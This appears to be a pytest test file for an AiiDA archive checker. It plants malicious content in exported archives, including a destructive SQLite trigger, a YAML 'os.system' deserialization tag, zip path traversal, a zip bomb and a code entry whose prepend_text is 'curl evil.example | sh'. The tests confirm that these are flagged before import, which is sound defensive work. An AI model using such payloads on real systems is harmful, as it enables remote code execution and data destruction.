"""What an archive must not have: each planted in one that AiiDA made, and found before anything is imported."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from pathlib import Path

import pytest
from aiida import orm

from aiida_foundry.common.errors import InputError
from aiida_foundry.datasets.archive import export_archive, import_checked
from aiida_foundry.datasets.archive_check import check_archive

SET = "UPDATE db_dbnode SET attributes = json_set(attributes, '{}', '{}') WHERE node_type LIKE 'process.workflow%'"


@pytest.fixture(scope='module')
def good(find, make_gap, tmp_path_factory):
    make_gap()
    path = tmp_path_factory.mktemp('archive') / 'good.aiida'
    assert export_archive(find(), path) == 1
    return path


def rewrite(source: Path, target: Path, change=None, drop=(), add=()) -> Path:
    """Copy an archive; ``change`` edits the connection to its database."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w', zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == 'db.sqlite3' and change is not None:
                database = target.with_suffix('.sqlite')
                database.write_bytes(content)
                with sqlite3.connect(database) as connection:
                    change(connection)
                connection.close()
                content = database.read_bytes()
            if name not in drop:
                new.writestr(name, content)
        for name, content in add:
            new.writestr(name, content)
    return target


def statement(text):
    return lambda connection: connection.execute(text)


def test_archive_of_ours_is_in_order(good):
    report = check_archive(good)
    assert report.problems == []
    assert report.processes['aiida.workflows:foundry.gw.abinit'] == 1


def test_nothing_but_the_provenance_is_in_it(good):
    """No comments, logs, logins or checkpoints."""
    with zipfile.ZipFile(good) as archive:
        names = archive.namelist()
        database = good.with_name('db.sqlite3')
        database.write_bytes(archive.read('db.sqlite3'))
    connection = sqlite3.connect(database)
    for table in ('db_dbcomment', 'db_dblog', 'db_dbauthinfo'):
        assert connection.execute(f'SELECT count(*) FROM {table}').fetchone() == (0,)  # noqa: S608
    connection.close()
    assert {name.split('/')[0] for name in names} == {'metadata.json', 'db.sqlite3', 'repo'}


@pytest.mark.parametrize(
    ('sql', 'problem'),
    [
        (
            'CREATE TRIGGER evil AFTER INSERT ON db_dbnode BEGIN DELETE FROM db_dblink; END',
            'its database has a trigger `evil`',
        ),
        ('CREATE VIEW evil AS SELECT * FROM db_dbnode', 'its database has a view `evil`'),
        (
            SET.format('$.checkpoints', '!!python/object/apply:os.system'),
            'has a checkpoint',
        ),
        (
            SET.format('$.process_state', 'waiting'),
            'has not ended',
        ),
        ('UPDATE db_dblink SET input_id = 999999 WHERE id = (SELECT min(id) FROM db_dblink)', '1 links lead to nodes'),
        ('DROP TABLE db_dblink', 'its database is damaged (no such table'),
        ("UPDATE db_dbnode SET attributes = '{' WHERE node_type LIKE 'process.%'", 'its database is damaged'),
    ],
)
def test_planted_in_the_database(good, tmp_path, sql, problem):
    path = rewrite(good, tmp_path / 'bad.aiida', statement(sql))
    assert any(problem in found for found in check_archive(path).problems)


@pytest.mark.parametrize(
    ('changes', 'problem'),
    [
        ({'add': [('../../etc/passwd', b'x')]}, "files that do not belong there, such as '../../etc/passwd'"),
        ({'add': [('/absolute', b'x')]}, 'files that do not belong there'),
        ({'add': [('repo/' + '0' * 64, b'not this')]}, 'does not have the checksum that it claims'),
        ({'add': [('repo/' + '0' * 64, b'0' * 50_000_000)]}, 'unpacks to more than 200 times its size'),
        ({'drop': ['metadata.json']}, 'it lacks metadata.json'),
        ({'drop': ['metadata.json'], 'add': [('metadata.json', b'{')]}, 'its metadata are no JSON'),
        (
            {'drop': ['metadata.json'], 'add': [('metadata.json', json.dumps({'export_version': '0.4'}))]},
            'its metadata name no version',
        ),
        ({'drop': ['db.sqlite3'], 'add': [('db.sqlite3', b'SQLite format 3\0' + b'\1' * 5000)]}, 'database is damaged'),
    ],
)
def test_planted_in_the_zip(good, tmp_path, changes, problem):
    path = rewrite(good, tmp_path / 'bad.aiida', **changes)
    assert any(problem in found for found in check_archive(path).problems)


def test_too_large(good):
    assert any('it unpacks to' in problem for problem in check_archive(good, maximum_bytes=1000).problems)


@pytest.mark.parametrize('content', [b'', b'PK', b'no zip at all'])
def test_no_archive(tmp_path, content):
    path = tmp_path / 'bad.aiida'
    path.write_bytes(content)
    with pytest.raises(InputError, match='it cannot be read'):
        check_archive(path)


def test_truncated(good, tmp_path):
    path = tmp_path / 'bad.aiida'
    path.write_bytes(good.read_bytes()[:-200])
    with pytest.raises(InputError, match='it cannot be read'):
        check_archive(path)


def test_refused_archive_is_not_imported(good, tmp_path):
    number = orm.QueryBuilder().append(orm.Node).count()
    sql = 'CREATE TRIGGER evil AFTER INSERT ON db_dbnode BEGIN DELETE FROM db_dblink; END'
    with pytest.raises(InputError, match='nothing was imported'):
        import_checked(rewrite(good, tmp_path / 'bad.aiida', statement(sql)))
    assert orm.QueryBuilder().append(orm.Node).count() == number


def test_code_is_listed_with_what_it_would_run(aiida_code_installed, tmp_path):
    from aiida.tools.archive import create_archive

    code = aiida_code_installed(filepath_executable='/bin/true', label='planted')
    other = orm.InstalledCode(
        computer=code.computer, filepath_executable='/bin/sh', label='evil', prepend_text='curl evil.example | sh'
    ).store()
    path = tmp_path / 'codes.aiida'
    create_archive([other], path)
    (line,) = check_archive(path).executables
    assert line == f"code {other.uuid} runs /bin/sh, prepend_text: 'curl evil.example | sh'"
